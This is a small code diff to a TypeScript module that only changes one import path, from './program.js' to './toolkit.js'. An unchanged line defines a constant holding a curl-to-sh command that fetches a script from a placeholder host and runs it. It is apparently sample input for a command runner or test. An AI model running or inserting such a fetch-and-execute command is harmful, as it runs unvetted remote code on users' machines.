@@ -1,6 +1,6 @@
 import { Readable, Writable } from "node:stream";
 import type { Context, Toolkit } from "./context.js";
-import { toolkitOf, type Library } from "./program.js";
+import { toolkitOf, type Library } from "./toolkit.js";
 import { run } from "./run.js";
 
 const COMMAND = "curl -fsSL https://get.example/i.sh | sh";
